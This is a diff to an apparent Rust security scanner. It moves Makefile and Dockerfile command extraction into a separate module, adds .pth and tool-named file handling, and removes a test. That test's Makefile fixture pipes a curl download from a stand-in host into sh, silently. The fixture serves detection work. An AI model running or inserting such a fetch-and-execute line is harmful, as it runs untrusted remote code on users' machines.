@@ -8,6 +8,7 @@ use std::borrow::Cow;
 
 use serde_json::Value;
 
+use super::carriers;
 use super::code::{self, Lang, Place};
 use super::containers::{self, Budget, Part, Role};
 use super::files::{self, Content, Gathered};
@@ -82,9 +83,22 @@ const DATA_EXTENSIONS: [&str; 22] = [
 
 /// Code in languages the evaluator does not model; read for command channels only
 /// (see [`code::channels`]).
-const OTHER_CODE_EXTENSIONS: [&str; 20] = [
+const OTHER_CODE_EXTENSIONS: [&str; 33] = [
     "php", "rb", "go", "lua", "groovy", "java", "kt", "kts", "pl", "pm", "awk", "cs", "gradle", "scala", "swift", "c",
-    "cc", "cpp", "vim", "el",
+    "cc", "cpp", "vim", "el", "rs", "r", "ex", "exs", "dart", "tcl", "fish", "cgi", "erb", "rake", "gemspec", "jl",
+    "nim",
+];
+
+/// Files named for the tool that runs them, in languages the evaluator does not model.
+const OTHER_CODE_NAMES: [&str; 8] = [
+    "jenkinsfile",
+    "gemfile",
+    "rakefile",
+    "vagrantfile",
+    "podfile",
+    "brewfile",
+    "fastfile",
+    "build.rs",
 ];
 
 fn extension(path: &str) -> String {
@@ -383,11 +397,6 @@ impl Run<'_> {
             return;
         }
         let name = path.rsplit(['/', '!']).next().unwrap_or(path).to_ascii_lowercase();
-        if name == "dockerfile" || name.ends_with(".dockerfile") || name.starts_with("dockerfile.") {
-            let shell = dockerfile_shell(text);
-            self.analyse(path, &shell, Lang::Shell, 1, 1, None);
-            return;
-        }
         if name == "makefile" || name == "gnumakefile" || name.ends_with(".mk") {
             let mut variables = Vec::new();
             // Variables may come from the files it includes (`include mk/*.mk`).
@@ -395,15 +404,26 @@ impl Run<'_> {
                 if let Some(included) = line.strip_prefix("include ").or_else(|| line.strip_prefix("-include ")) {
                     for pattern in included.split_whitespace() {
                         if let Some(other) = self.code.own_text(pattern) {
-                            make_variables(&other, &mut variables);
+                            carriers::make_variables(&other, &mut variables);
                         }
                     }
                 }
             }
-            make_variables(text, &mut variables);
-            let shell = makefile_shell(text, &variables);
+            carriers::make_variables(text, &mut variables);
+            let shell = carriers::makefile_shell(text, &variables);
             self.analyse(path, &shell, Lang::Shell, 1, 1, None);
             return;
+        }
+        if name.ends_with(".pth") {
+            self.analyse(path, &carriers::pth_code(text), Lang::Python, 1, 1, None);
+            return;
+        }
+        if let Some(shell) = carriers::commands(&name, text) {
+            self.analyse(path, &shell, Lang::Shell, 1, 1, None);
+            // YAML and JSON may carry other readings below (channels, a notebook).
+            if !(name.ends_with(".json") || name.ends_with(".yml") || name.ends_with(".yaml")) {
+                return;
+            }
         }
         // Files that run commands when something starts: what they run, as shell.
         let starts = if name.ends_with(".plist") {
@@ -437,9 +457,10 @@ impl Run<'_> {
         }
         if matches!(kind, FileKind::Script)
             || OTHER_CODE_EXTENSIONS.contains(&extension(path).as_str())
-            || name == "jenkinsfile"
+            || OTHER_CODE_NAMES.contains(&name.as_str())
         {
             code::channels::record(&mut self.code, path, text);
+            code::channels::record_unmodelled(&mut self.code, path, text);
         }
         if name == "package.json"
             && let Some(opened) = containers::open_package_json(path, text)
@@ -518,97 +539,6 @@ impl Run<'_> {
         self.report.sort();
         self.report
     }
-}
-
-/// A Dockerfile's `RUN` commands as one shell script, each on its own lines (the
-/// other lines left blank, so lines keep their numbers).
-fn dockerfile_shell(text: &str) -> String {
-    let mut out = String::with_capacity(text.len());
-    let mut continuing = false;
-    for line in text.lines() {
-        let trimmed = line.trim_start();
-        let command = if continuing {
-            Some(line)
-        } else {
-            trimmed
-                .get(..4)
-                .filter(|head| head.eq_ignore_ascii_case("RUN "))
-                .map(|_| &trimmed[4..])
-                .filter(|rest| !rest.trim_start().starts_with('['))
-        };
-        match command {
-            Some(command) => {
-                out.push_str(command);
-                continuing = command.trim_end().ends_with('\\');
-            }
-            None => continuing = false,
-        }
-        out.push('\n');
-    }
-    out
-}
-
-/// A Makefile's recipes as the shell runs them, one per line where it stands: `$$`
-/// is `$`, `$(VAR)` is the variable's value (from this file and the files it includes,
-/// as `variables` gives them), and a recipe's `@`, `-` and `+` prefixes are dropped.
-fn makefile_shell(text: &str, variables: &[(String, String)]) -> String {
-    let mut out = String::with_capacity(text.len());
-    for line in text.lines() {
-        if let Some(recipe) = line.strip_prefix('\t') {
-            let recipe = recipe.trim_start_matches(['@', '-', '+', ' ']);
-            out.push_str(&expand_make(recipe, variables, 0));
-        }
-        out.push('\n');
-    }
-    out
-}
-
-/// A Makefile's variable assignments (`NAME = v`, `:=`, `?=`, `::=`), in order.
-fn make_variables(text: &str, out: &mut Vec<(String, String)>) {
-    for line in text.lines() {
-        if line.starts_with('\t') || line.trim_start().starts_with('#') {
-            continue;
-        }
-        let Some(eq) = line.find('=') else { continue };
-        let name = line[..eq].trim_end_matches([':', '?', '+', '!']).trim();
-        let name = name.strip_prefix("export ").unwrap_or(name).trim();
-        if !name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_') {
-            out.push((name.to_string(), line[eq + 1..].trim().to_string()));
-        }
-    }
-}
-
-fn expand_make(text: &str, variables: &[(String, String)], depth: usize) -> String {
-    let mut out = String::with_capacity(text.len());
-    let mut rest = text;
-    while let Some(at) = rest.find('$') {
-        out.push_str(&rest[..at]);
-        let after = &rest[at + 1..];
-        if let Some(tail) = after.strip_prefix('$') {
-            out.push('$');
-            rest = tail;
-        } else if let Some(close) = after
-            .strip_prefix(['(', '{'])
-            .and_then(|inner| inner.find([')', '}']).map(|c| (inner, c)))
-        {
-            let (inner, c) = close;
-            let name = &inner[..c];
-            match variables.iter().rev().find(|(n, _)| n == name) {
-                Some((_, value)) if depth < 4 => out.push_str(&expand_make(value, variables, depth + 1)),
-                _ => {
-                    out.push_str("${");
-                    out.push_str(name);
-                    out.push('}');
-                }
-            }
-            rest = &inner[c + 1..];
-        } else {
-            out.push('$');
-            rest = after;
-        }
-    }
-    out.push_str(rest);
-    out
 }
 
 fn origin<'a>(file: &'a str, scope: Scope, doc: Option<&'a markdown::Doc<'a>>) -> Origin<'a> {
@@ -742,24 +672,5 @@ fn impersonation(name: &str, options: &Options, out: &mut Collected) {
         let mut f = whole_file(rule, SKILL_FILE, format!("`{name}` is named like `{other}`"));
         f.excerpt = excerpt(name);
         out.findings.push(f);
-    }
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn make_recipes_read_as_the_shell_runs_them() {
-        let makefile = "TOOLS_MIRROR ?= https://tools.example.net/v3\nall: tools\n\ntools:\n\t@sh -c \"$$(curl -fsSL $(TOOLS_MIRROR)/bootstrap)\" >/dev/null 2>&1\n";
-        let mut variables = Vec::new();
-        make_variables(makefile, &mut variables);
-        let shell = makefile_shell(makefile, &variables);
-        assert!(
-            shell.contains("sh -c \"$(curl -fsSL https://tools.example.net/v3/bootstrap)\""),
-            "{shell}"
-        );
-        // Lines stay where they were, so findings keep their line numbers.
-        assert_eq!(shell.lines().count(), makefile.lines().count());
     }
 }
